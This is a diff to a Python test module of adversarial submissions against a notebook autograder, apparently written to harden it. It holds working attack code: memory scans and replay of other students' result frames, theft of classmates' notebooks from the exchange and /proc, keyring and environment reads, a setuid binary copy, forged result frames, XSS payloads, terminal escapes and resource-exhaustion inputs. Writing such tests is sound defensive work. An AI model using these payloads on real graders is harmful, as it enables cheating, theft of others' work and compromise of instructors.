@@ -1,4 +1,7 @@
-"""Attacks on the grader: each is a submission whose mnist_loss is wrong (or not its author's), and which tries to get its 4 points or to do harm."""
+"""Attacks on the grader: each is a submission whose answer is wrong (or not its author's), and which tries to get its points or to do harm.
+
+`attacked.py` grades all of them as one class, `weakened.py` has the builds on which they succeed, `attacks_in_stock.py` tries nbgrader's own autograder.
+"""
 from collections.abc import Callable
 from dataclasses import dataclass
 
@@ -18,6 +21,40 @@ class Attack:
     edit: Callable = _same
     files: tuple[tuple[str, str], ...] = ()
     safe_in_stock: bool = True  # whether it may be run with the stock autograder on this machine, to see what happens
+    target: str = "mnist_loss"  # one of TARGETS
+    without: str = WRONG        # the same answer without the trick
+    doubted: bool = False       # whether the answer's numbers are right: then no points and a person is what must come out
+
+
+# For each target: its assignment, its solution cell, its graded cells, and an honest answer.
+LOSS, JUDGED, OWN, QUESTIONS = "loss_functions", "judged", "own", "questionnaire_mnist_basics"
+HONEST = {
+    "mnist_loss": "def mnist_loss(predictions, targets):\n    p = sigmoid(predictions)\n    return torch.where(targets == 1, 1 - p, p).mean()",
+    "sigmoid": SIGMOID,
+    "DataLoader": """import torch
+class DataLoader:
+    def __init__(self, dataset, batch_size=64, shuffle=False, drop_last=False): self.dataset, self.size, self.shuffle, self.drop_last = dataset, batch_size, shuffle, drop_last
+    def __len__(self): return len(self.dataset) // self.size if self.drop_last else -(-len(self.dataset) // self.size)
+    def order(self): return torch.randperm(len(self.dataset)).tolist() if self.shuffle else list(range(len(self.dataset)))
+    def __iter__(self):
+        order = self.order()
+        for i in range(len(self)):
+            items = [self.dataset[k] for k in order[i * self.size:(i + 1) * self.size]]
+            stack = lambda column: torch.stack(list(column)) if isinstance(column[0], torch.Tensor) else torch.tensor(column) if not isinstance(column[0], str) else tuple(column)
+            yield tuple(stack(c) for c in zip(*items)) if isinstance(items[0], tuple) else stack(items)
+""",
+    "Linear": """import torch
+class Linear:
+    def __init__(self, n_in, n_out):
+        self.weight = (torch.randn(n_out, n_in) / n_in ** 0.5).requires_grad_()
+        self.bias = torch.zeros(n_out, requires_grad=True)
+    def __call__(self, x): return x @ self.weight.T + self.bias
+    def parameters(self): return [self.weight, self.bias]
+""",
+    "ReLU": "import torch\nclass ReLU:\n    def __call__(self, x): return torch.where(x > 0, x, 0 * x)\n    def parameters(self): return []\n",
+    "double": "def double(x): return 2 * x\n"}
+TARGETS = {"mnist_loss": (LOSS, "mnist_loss", ("check-mnist_loss",)), "double": (OWN, "double", ("test-double", "test-hidden")), "question": (QUESTIONS, "", ("question-mb-10",)),
+           **{name: (JUDGED, name, (f"check-{name}",)) for name in ("sigmoid", "DataLoader", "Linear", "ReLU")}}
 
 
 FAKE = "def fake(*args, **kwargs): return None\n"
@@ -36,6 +73,8 @@ COMPARING, HOOKS, OBJECTS, LOOKING = "changing what is compared or called", "hoo
 FORGING, ENDING, EATING = "forging results", "exiting and killing", "time, memory, processes, output, disk"
 READING, WRITING, NETWORK = "reading what is not theirs", "writing to the gradebook and the course", "network"
 METADATA, FILES, BROWSER, READY_MADE = "points, ids, metadata, tags", "files beside the notebook", "the instructor's browser", "ready-made functions in disguise"
+MEMORY, EXCHANGE, KEYRING, CHANNELS = "the memory of the process it is forked from", "the exchange and other hand-ins", "keyrings", "channels between submissions"
+JUDGES, FORBIDDEN, BUDGET, FRAMES, PLAIN = "talking the judges round", "ways round the record", "time and memory of the trusted side", "frames of one's own", "cells that are marked by running them"
 
 
 def _metadata(of, **changes):
@@ -169,4 +208,308 @@ ATTACKS = [
     Attack(READY_MADE, "the operator itself", "import torch\n" + RIGHT_FROM.format(sigmoid="torch.ops.aten.sigmoid.default(predictions)")),
     Attack(READY_MADE, "a compiled function", "import torch\nsquash = torch.jit.CompilationUnit('def f(x):\\n    return torch.sigmoid(x)').f\n" + RIGHT_FROM.format(sigmoid="squash(predictions)")),
     Attack(READY_MADE, "the record switched off", "import torch, torch.utils._python_dispatch as d\ndef squash(x):\n    with d._disable_current_modes(): return torch.sigmoid(x)\n" + RIGHT_FROM.format(sigmoid="squash(predictions)")),
+]
+
+# ---- the process that is forked from, and what is left behind: `LEAVES` is what an accomplice's notebook does before one of these looks for it
+
+SOLVED = "lambda p,t:(1/(1+(p*(2*t-1)).exp())).mean() "  # all of mnist_loss in 44 characters
+FRAMES_ABOVE = """
+import os, struct, sys, torch
+_f = sys._getframe()
+while "send" not in _f.f_locals or "request" not in _f.f_locals: _f = _f.f_back
+request, send = _f.f_locals["request"], _f.f_locals["send"]
+_done = _f.f_locals.get("i", 1)
+def finish(frames=()):
+    for i in range(_done, len(request["cells"]) + 1): send({"cell": i, "seen": None})
+    for frame in frames: os.write(3, frame)
+    send({"end": True})
+    os._exit(0)
+"""
+SCAN = """
+def scan(word, most=2 ** 28):
+    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
+        for line in maps:
+            area, rights = line.split()[:2]
+            low, high = (int(n, 16) for n in area.split("-"))
+            if not rights.startswith("rw") or "[v" in line or high - low > most: continue
+            try:
+                memory.seek(low)
+                data = memory.read(high - low)
+            except (OSError, ValueError, OverflowError): continue
+            at = data.find(word)
+            while at >= 0:
+                yield data, at
+                at = data.find(word, at + 1)
+"""
+REPLAY = WRONG + FRAMES_ABOVE + SCAN + """
+import json
+found = {}
+for data, at in scan(b"CLW" + b"1"):
+    size, = struct.unpack_from("<I", data, at - 4) if at >= 4 else (0,)
+    header = data[at + 8:at + 8 + struct.unpack_from("<I", data, at + 4)[0]] if at + 8 < len(data) else b""
+    if b'"token"' in header and b'"seen"' in header and b"probe" not in header and 8 < size < 10 ** 6:
+        for job in request["jobs"]:
+            for case in job["cases"]:
+                if case["token"].encode() in header: found.setdefault(case["token"], data[at - 4:at + size])
+if found: finish([found[c["token"]] for job in request["jobs"] for c in job["cases"] if c["token"] in found])
+"""
+SOURCES = WRONG + SCAN + """
+import json
+for data, at in scan(b'"def mnist_' + b"loss(predictions"):
+    text = data[at:at + 2000]
+    try: source = json.JSONDecoder().raw_decode(text.decode("latin-1"))[0]
+    except ValueError: continue
+    if "sigmoid(" in source: exec(source, globals())
+"""
+MINE = "exec('mnist_loss = ' + found, globals()) if found else None\n"
+LEAVES = "import torch\nSOLVED = " + repr(SOLVED) + r"""
+import ctypes, os, socket, time
+kept = [SOLVED + " #left" for _ in range(5000)]
+def tried(action):
+    try: return action()
+    except (OSError, ImportError): return None
+def files():
+    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), os.getcwd()):
+        def write(): open(os.path.join(folder, "left"), "w").write(SOLVED)
+        tried(write)
+def ports():
+    for place, char in enumerate(SOLVED.encode()):
+        server = socket.create_server(("127.0.0.1", 20000 + 128 * place + char))
+        client = socket.create_connection(server.getsockname())
+        other = server.accept()[0]
+        other.close(); client.close(); server.close()
+def stays():
+    if os.fork(): return
+    for fd in range(3, 64): tried(lambda: os.close(fd))
+    os.setsid()
+    server = socket.socket(socket.AF_UNIX)
+    server.bind("\0left")
+    server.listen()
+    server.settimeout(60)
+    while True: server.accept()[0].sendall(SOLVED.encode())
+def keys():
+    libc = ctypes.CDLL(None)
+    for ring in (-3, -4, -5): libc.syscall(248, b"user", b"left", SOLVED.encode(), len(SOLVED), ring)
+def times():
+    for name in ("null", "zero", "full", "random", "urandom"): tried(lambda: os.utime("/dev/" + name))
+def shared():
+    from multiprocessing.shared_memory import SharedMemory
+    kept.append(SharedMemory("left", create=True, size=64))
+    kept[-1].buf[:len(SOLVED)] = SOLVED.encode()
+def name(): socket.sethostname(SOLVED[:60])
+for leave in (files, ports, keys, times, shared, name, stays): tried(leave)
+raise ValueError(SOLVED + " #left")
+"""
+LOOKS = {
+    "files in every folder": "import os\nfound = ''\nfor d in ('/tmp', '/dev/shm', '/var/tmp', '/run', os.path.expanduser('~'), os.getcwd()):\n    try: found = open(os.path.join(d, 'left')).read()\n    except OSError: pass\n",
+    "ports that were used": "import re\nports = sorted({int(p, 16) for line in open('/proc/net/tcp') for p in re.findall(r':([0-9A-F]{4}) ', line)})\n"
+                            "found = ''.join(chr((p - 20000) % 128) for p in ports if 20000 <= p < 20000 + 128 * 64)\n",
+    "a socket of a process that stays": "import socket\nfound = ''\ntry:\n    s = socket.socket(socket.AF_UNIX)\n    s.settimeout(2)\n    s.connect('\\0left')\n    found = s.recv(100).decode()\nexcept OSError: pass\n",
+    "shared memory": "found = ''\ntry:\n    from multiprocessing.shared_memory import SharedMemory\n    found = bytes(SharedMemory('left').buf[:44]).decode()\nexcept Exception: pass\n",
+    "the name of the machine": "import socket\nfound = socket.gethostname() if 'lambda' in socket.gethostname() else ''\n"}
+KEYS = """
+import ctypes
+found, libc = "", ctypes.CDLL(None)
+for ring in (-3, -4, -5):
+    key = libc.syscall(250, 10, ring, b"user", b"left", 0)
+    if key > 0:
+        text = ctypes.create_string_buffer(100)
+        length = libc.syscall(250, 11, key, text, 100)
+        found = text.raw[:max(0, length)].decode() or found
+"""
+CLASSMATES = """
+import glob, json, os
+def take(patterns):
+    for pattern in patterns:
+        for path in glob.iglob(pattern):
+            try: cells = json.load(open(path))["cells"]
+            except (OSError, ValueError): continue
+            for cell in cells:
+                source = "".join(cell["source"])
+                if "def mnist_loss" in source and "glob" not in source and "NotImpl" not in source and "* 0.0" not in source: exec(source, globals())
+"""
+INBOUND = "('/usr/local/share/nbgrader/exchange/*/inbound/*/*.ipynb', '/srv/nbgrader/exchange/*/inbound/*/*.ipynb', '/usr/local/share/nbgrader/exchange/*/feedback/*/*')"
+ATTACKS += [
+    Attack(MEMORY, "frames of classmates, found and sent again", REPLAY, safe_in_stock=False),
+    Attack(MEMORY, "the text of classmates' solutions", SOURCES, safe_in_stock=False),
+    Attack(MEMORY, "what an accomplice left in a thousand copies", WRONG + SCAN + "found = next((d[a - 44:a].decode('latin-1') for d, a in scan(b' #le' + b'ft') if d[a - 44:a].startswith(b'lambda')), '')\n" + MINE, safe_in_stock=False),
+    Attack(EXCHANGE, "the exchange in its usual place", WRONG + CLASSMATES + f"take({INBOUND})\n", safe_in_stock=False),
+    Attack(EXCHANGE, "through the folders of processes", WRONG + CLASSMATES + "take(p + q for p in glob.glob('/proc/*/root') + glob.glob('/proc/*/cwd') + glob.glob('/proc/*/fd/*') for q in ('/usr/local/share/nbgrader/exchange/*/inbound/*/*.ipynb',"
+           " '/submitted/*/*/*.ipynb', '/../../submitted/*/*/*.ipynb'))\n", safe_in_stock=False),
+    Attack(EXCHANGE, "submitted work anywhere", WRONG + CLASSMATES + "take('/*' * n + f'/{d}/*/*/*.ipynb' for n in range(5) for d in ('submitted', 'inbound', 'autograded'))\ntake([os.path.expanduser('~/**/*.ipynb')])\n", safe_in_stock=False),
+    Attack(KEYRING, "a key of the session's keyring", WRONG + KEYS + MINE, safe_in_stock=False),
+    *(Attack(CHANNELS, name, WRONG + look + MINE, safe_in_stock=False) for name, look in LOOKS.items())]
+
+
+# ---- the judges
+
+_ONCE = HONEST["DataLoader"].replace("def order(self): return ", "def order(self):\n        self.drawn = getattr(self, 'drawn', None) or (").replace("list(range(len(self.dataset)))", "list(range(len(self.dataset))))\n        return self.drawn")
+FEWER = """
+import builtins, sys
+_range = builtins.range
+def fewer(*a):
+    caller = sys._getframe(1).f_code
+    return {} if caller.co_filename.endswith("probes.py") else _range(*a)
+builtins.range = fewer
+"""
+_ROUGH = "import torch\ndef sigmoid(x): return {}\n"
+
+
+def _answer_table() -> str:
+    "A sigmoid that knows the answers to the inputs of one drawing, and nothing else."
+    import torch
+
+    from course_lib.exercises.checking import find_check
+    from course_lib.exercises.checks import Trial
+    trial, rows = Trial(find_check("sigmoid"), 7), []
+    for case in trial.cases:
+        x = next(iter(case.inputs["args"]))
+        if isinstance(x, torch.Tensor) and x.numel(): rows.append((x.tolist(), torch.sigmoid(x).tolist(), str(x.dtype)))
+    return (f"import torch\ninf, nan = float('inf'), float('nan')\nTABLE = {rows!r}\ndef sigmoid(x):\n    for given, value, kind in TABLE:\n        if torch.equal(torch.tensor(given, dtype=x.dtype), x): \n"
+            "            p = torch.tensor(value, dtype=x.dtype)\n            return p + (x - x.detach()) * p * (1 - p)\n    return 0 * x\n")
+
+
+ATTACKS += [
+    Attack(JUDGES, "one pass instead of three", FEWER.format("_range(1)") + _ONCE, target="DataLoader", without=_ONCE, doubted=True),
+    Attack(JUDGES, "no pass at all", FEWER.format("()") + _ONCE, target="DataLoader", without=_ONCE, doubted=True),
+    Attack(JUDGES, "biases that are no numbers", HONEST["Linear"].replace("torch.zeros(n_out, requires_grad=True)", "torch.full((n_out,), float('nan')).requires_grad_()"), target="Linear",
+           without=HONEST["Linear"].replace("torch.zeros(n_out, requires_grad=True)", "torch.full((n_out,), 5.0).requires_grad_()")),
+    Attack(JUDGES, "a coarser kind of number", _ROUGH.format("(1.0015 / (1 + torch.exp(-x))).bfloat16()"), target="sigmoid", without=_ROUGH.format("1.0015 / (1 + torch.exp(-x))")),
+    Attack(JUDGES, "numbers that are close to all", _ROUGH.format("1 / (1 + torch.exp(-x)) * float('nan')"), target="sigmoid", without=_ROUGH.format("x * 0.0")),
+    Attack(JUDGES, "the answers of another drawing", _answer_table(), target="sigmoid", without=_ROUGH.format("0 * x")),
+    Attack(JUDGES, "a whole number of 4000 digits", "def sigmoid(x): return 10 ** 4000\n", target="sigmoid", without=_ROUGH.format("x * 0.0")),
+]
+
+# ---- ready-made functions, by ways on which nothing is read and nothing recorded
+
+FORBIDDEN_ONE = "import torch\n" + RIGHT_FROM.format(sigmoid="torch.sigmoid(predictions)")
+
+
+def _evades(name: str, before: str, sigmoid: str, **more) -> Attack:
+    return Attack(FORBIDDEN, name, "import torch\n" + before + RIGHT_FROM.format(sigmoid=sigmoid), without=FORBIDDEN_ONE, doubted=True, **more)
+
+
+ATTACKS += [
+    _evades("a thread", "from concurrent.futures import ThreadPoolExecutor\n", "ThreadPoolExecutor(1).submit(torch.sigmoid, predictions).result()"),
+    _evades("another way to a thread", "import _thread, queue\nq = queue.SimpleQueue()\nname = ''.join(['sig', 'moid'])\n",
+            "(_thread.start_new_thread(lambda: q.put(getattr(predictions, name)()), ()), q.get())[1]"),
+    _evades("sorted is replaced", "import builtins\nbuiltins.sorted = lambda *a, **k: []\n", "getattr(torch, 'sig' + 'moid')(predictions)"),
+    _evades("scipy's, imported by name", "import importlib\nexpit = importlib.import_module('scipy.' + 'special').expit\n"
+            "class S(torch.autograd.Function):\n    @staticmethod\n    def forward(ctx, x):\n        y = torch.as_tensor(expit(x.detach().numpy()))\n        ctx.save_for_backward(y)\n        return y\n"
+            "    @staticmethod\n    def backward(ctx, g):\n        y, = ctx.saved_tensors\n        return g * y * (1 - y)\n", "S.apply(predictions)"),
+    _evades("an operator of one's own", "lib = torch.library.Library('mine', 'DEF')\nlib.define('s(Tensor x) -> Tensor')\nlib.impl('s', lambda x: torch.sigmoid(x), 'CompositeImplicitAutograd')\n", "torch.ops.mine.s(predictions)"),
+    _evades("soft_margin_loss", "import torch.nn.functional as F\n", "torch.exp(-F.soft_margin_loss(predictions, torch.ones_like(predictions), reduction='none'))"),
+    _evades("_masked_softmax", "", "torch._masked_softmax(torch.stack([predictions, 0 * predictions], -1), torch.zeros(*predictions.shape, 2, dtype=torch.bool), -1)[..., 0]"),
+    _evades("a distribution", "", "torch.distributions.Bernoulli(logits=predictions).probs"),
+    _evades("a recorded function, called by a hook of the gradients", "keep = []\ndef squash(x):\n    y = x.detach().requires_grad_()\n    y.register_hook(lambda g: keep.append(torch.sigmoid(y.detach())))\n"
+            "    with torch.enable_grad(): y.sum().backward()\n    p = keep.pop()\n    return p + (x - x.detach()) * p * (1 - p)\n",
+            "squash(predictions)"),
+    Attack(FORBIDDEN, "elu with alpha 0", "import torch.nn.functional as F\nclass ReLU:\n    def __call__(self, x): return F.elu(x, alpha=0.)\n    def parameters(self): return []\n", target="ReLU",
+           without="import torch.nn.functional as F\nclass ReLU:\n    def __call__(self, x): return F.relu(x)\n    def parameters(self): return []\n", doubted=True),
+]
+
+# ---- frames of one's own: they are right, by a function that is not allowed, or stand where none is read
+
+ANSWERED = FRAMES_ABOVE + """
+from course_lib.exercises.probes import observe
+from course_lib.grading import wire
+def right(predictions, targets):
+    p = torch.sigmoid(predictions)
+    return torch.where(targets == 1, 1 - p, p).mean()
+def answers(secret):
+    for job in request["jobs"]:
+        for case in job["cases"]:
+            body = wire.dumps({"token": case["token"], "seen": observe(case["probe"], right if job["name"] == "mnist_loss" else torch.sigmoid, case["inputs"]), "used": [], "secret": secret})
+            yield struct.pack("<I", len(body)) + body
+"""
+ATTACKS += [
+    Attack(FRAMES, "right answers by torch's function", WRONG + ANSWERED + "finish(answers(request['secret']))\n", doubted=True, without=FORBIDDEN_ONE),
+    Attack(FRAMES, "answers behind the end", WRONG + ANSWERED + "real = os._exit\ndef more(code):\n    for frame in answers(request['secret']): os.write(3, frame)\n    real(code)\nos._exit = more\n", doubted=True),
+    Attack(FRAMES, "cases out of order", WRONG + ANSWERED + "finish(list(answers(request['secret']))[::-1])\n", doubted=True),
+    Attack(FRAMES, "another submission's secret", WRONG + ANSWERED + "finish(answers('0' * 32))\n", doubted=True),
+    Attack(FRAMES, "each answer twice", WRONG + ANSWERED + "finish([f for f in answers(request['secret']) for _ in range(2)])\n", doubted=True),
+]
+
+# ---- what it costs the side with the gradebook
+
+_SEND = "import os, struct\ndef send_raw(text):\n    body = b'CLW1' + struct.pack('<I', len(text)) + text\n    data = memoryview(struct.pack('<I', len(body)) + body)\n    while data: data = data[os.write(3, data):]\n"
+
+
+def _cells(sources):
+    def edit(nb):
+        nb["cells"][1:1] = [{"cell_type": "code", "id": f"more{i}", "metadata": {}, "source": s, "outputs": [], "execution_count": None} for i, s in enumerate(sources)]
+        return nb
+    return edit
+
+
+def _markdown(text, **more):
+    def edit(nb):
+        nb["cells"].insert(1, {"cell_type": "markdown", "id": "text", "metadata": {}, "source": text, **more})
+        return nb
+    return edit
+
+
+def _answers(text): return (("answers.json", text),)
+
+
+def _response(response: str) -> tuple: return _answers('{"answers": {"mb-10": {"response": "' + response + '"}}}')
+
+
+ATTACKS += [
+    Attack(BUDGET, "a chain of 20,000 statements", WRONG + "a0 = 1\n" + "".join(f"a{i} = a{i - 1}\n" for i in range(1, 20_000)) + "x = a19999\ndef mnist_loss(predictions, targets): return (predictions * 0. * x).sum()\n"),
+    Attack(BUDGET, "an error of 28 MB", WRONG + _SEND + "send_raw(b'{\"d\":[[\"cell\",1],[\"seen\",{\"r\":[\"E\",\"' + b\"'\" * (28 * 2 ** 20) + b'\"]}]]}')\n", safe_in_stock=False),
+    Attack(BUDGET, "an error of 4 MB with the right secret", WRONG + FRAMES_ABOVE + _SEND + "send_raw(b'{\"d\":[[\"cell\",%d],[\"secret\",\"%s\"],[\"seen\",{\"r\":[\"E\",\"' % (_done, request['secret'].encode()) + b\"'\" * (4 * 2 ** 20) + b'\"]}]]}')\nos._exit(0)\n", safe_in_stock=False),
+    Attack(BUDGET, "19,000 frames with a long tail", WRONG + FRAMES_ABOVE + "frame = []\nfor i in range(19_000): send({'cell': _done + i, 'seen': None})\nos.write(3, bytes(4 * 2 ** 20))\nos._exit(0)\n", safe_in_stock=False),
+    Attack(BUDGET, "3,000 cells", WRONG, _cells(["x = 1"] * 3000)),
+    Attack(BUDGET, "names nested in names", WRONG + "def mnist_loss(predictions, targets): return (predictions * 0.).sum() or " + "+".join(["mnist_loss"] * 5000) + "\n"),
+    Attack(BUDGET, "brackets in brackets", WRONG + "x = " + "[" * 5000 + "]" * 5000 + "\n"),
+    Attack(BUDGET, "an error of an error", WRONG + "class E(Exception):\n    def __str__(self): raise self\ndef mnist_loss(predictions, targets): raise E(chr(0xd800) * 10 ** 7)\n"),
+    Attack(BUDGET, "a folder 1,100 deep", WRONG, files=(("d/" * 1100 + "x.txt", "x"),), safe_in_stock=False),
+    Attack(BUDGET, "2,000 files", WRONG, files=tuple((f"many/{i}.txt", "x" * 100) for i in range(2000)), safe_in_stock=False),
+    Attack(BUDGET, "a power as an answer", "", files=_response("torch.pow(999999999, 999999999)"), target="question", without=""),
+    Attack(BUDGET, "a power of powers as an answer", "", files=_response("9**9**9**9**9"), target="question", without=""),
+    Attack(BUDGET, "an index of 22,500 rows as an answer", "", files=_response("(torch.arange(150).view(150,1)+torch.arange(150)).view(1,22500)[torch.arange(100).view(100,1)*torch.arange(150)*0]"), target="question", without=""),
+    Attack(BUDGET, "answers a million deep", "", files=_answers('{"answers": ' + "[" * 10 ** 6 + "]" * 10 ** 6 + "}"), target="question", without=""),
+    Attack(BUDGET, "a number of a million digits as an answer", "", files=_answers('{"answers": {"mb-10": {"response": ' + "9" * 10 ** 6 + "}}}"), target="question", without=""),
+]
+
+# ---- pages
+
+LINKS = "[the whole log](javascript:alert(1)) ![](https://example.org/t.png) <img src=x onerror=alert(1)> [x](vbscript:alert(1)) <javascript:alert(1)> $\\href{javascript:alert(1)}{x}$"
+_PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+ATTACKS += [
+    Attack(BROWSER, "links in what a cell stops with", WRONG + f"raise ValueError({LINKS!r})\n"),
+    Attack(BROWSER, "links in the name of an error", WRONG + f"raise type({LINKS!r}, (Exception,), {{}})('x')\n"),
+    Attack(BROWSER, "a page beside the notebook", WRONG, _markdown("The loss falls, as [my plot](plot.html) shows. ![](/logout) ![](https://example.org/t.png) [x](/formgrader)"),
+           files=(("plot.html", "<script>document.title='owned'</script>"), ("plot.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), ("plot.js", "alert(1)"),
+                  ("plot.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"), ("PLOT.HTM", "<script>alert(1)</script>"), ("plot.png", "<script>alert(1)</script>"))),
+    Attack(BROWSER, "60,000 brackets in a text", WRONG, _markdown("\\\\[" * 60_000)),
+    Attack(BROWSER, "60,000 stars, quotes and bars in a text", WRONG, _markdown("**a*" * 20_000 + "\n\n" + ">" * 20_000 + "x\n\n" + "|" * 20_000 + "\n" + "|-" * 20_000 + "\n" + "`" * 20_000)),
+    Attack(BROWSER, "an attachment that is a page", WRONG, _markdown("![p](attachment:p.png) ![q](attachment:q.svg) ![gone](attachment:gone.png)",
+           attachments={"p.png": {"image/png": _PICTURE}, "q.svg": {"image/svg+xml": "<svg onload='alert(1)'></svg>", "text/html": "<script>alert(1)</script>"}})),
+    Attack(BROWSER, "escapes for a terminal", "def mnist_loss(predictions, targets): raise ValueError('\\x1b]52;c;bHM=\\x07\\x1b[8m\\u202e\\r\\nzoe  5 of 5')\n"),
+]
+
+# ---- cells that are marked by running them; that their result can be forged is told in the manual, so these want something else
+
+BAD = "def double(x): return 0\n"
+HIDDEN_WORD = "the-hidden-word"
+
+
+def _plain(name: str, code: str, **more) -> Attack: return Attack(PLAIN, name, BAD + code, target="double", without=BAD, safe_in_stock=False, **more)
+
+
+ATTACKS += [
+    _plain("a file with another's rights", "import os, shutil\nfor d in ('/tmp', '.', '/dev/shm', '/var/tmp'):\n    try:\n        shutil.copy('/usr/bin/id', d + '/evil')\n        os.chmod(d + '/evil', 0o4755)\n        os.chmod(d, 0o777)\n    except OSError: pass\n"),
+    _plain("the environment of the first process", "import glob\nfor f in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n    try: print(open(f).read())\n    except OSError: pass\n"),
+    _plain("scripts in outputs", "from IPython.display import HTML, Javascript, SVG, Markdown, Image, IFrame, display\ndisplay(HTML('<script>document.title=1</script>'), Javascript('alert(1)'), SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>'),"
+           " Markdown('[x](javascript:alert(1))'), Image(url='https://example.org/t.png'), IFrame('https://example.org', 9, 9))\nclass H:\n    def _repr_html_(self): return '<img src=x onerror=alert(1)>'\nH()\n"),
+    _plain("hidden tests kept and printed", "ip, seen = get_ipython(), []\nip.input_transformers_cleanup.append(lambda lines: (seen.extend(lines), lines)[1])\nimport atexit\natexit.register(lambda: print(seen))\n"
+           "ip.events.register('post_run_cell', lambda r: print([l for l in seen if 'hidden' in l]))\nclass E(Exception):\n    def __str__(self): return str(seen) + str(ip.history_manager.input_hist_raw)\ndef double(x): raise E\n"),
+    _plain("200 MB of output", "import sys\nfor _ in range(200): sys.stdout.write('x' * 2 ** 20)\nfrom IPython.display import display\nfor _ in range(20): display('y' * 2 ** 20)\n"),
+    _plain("the end of the process", "import os\nos._exit(0)\n"),
+    _plain("an endless loop in a cell", "while True:\n    try:\n        while True: pass\n    except BaseException: pass\n"),
+    _plain("outputs sent by itself", "import sys\nf = sys._getframe()\nwhile f and 'send' not in f.f_locals: f = f.f_back\nif f:\n    for n in range(1, 20): f.f_locals['send']({'cell': n, 'outputs': [{'kind': 'display', 'text': 'x', 'html': '<script>alert(1)</script>',"
+           " 'text/html': '<script>alert(1)</script>'}, {'kind': 'stream', 'name': 'stdout', 'text': '<script>alert(1)</script>'}]})\n"),
+    _plain("a link beside the notebook", "import glob, os\nprint([os.path.realpath(p) for p in glob.glob('*')])\nfor up in range(1, 12):\n    for p in glob.glob('../' * up + '**/*.ipynb') + glob.glob('../' * up + 'gradebook.db'): print('LEAKED', p)\n"),
 ]
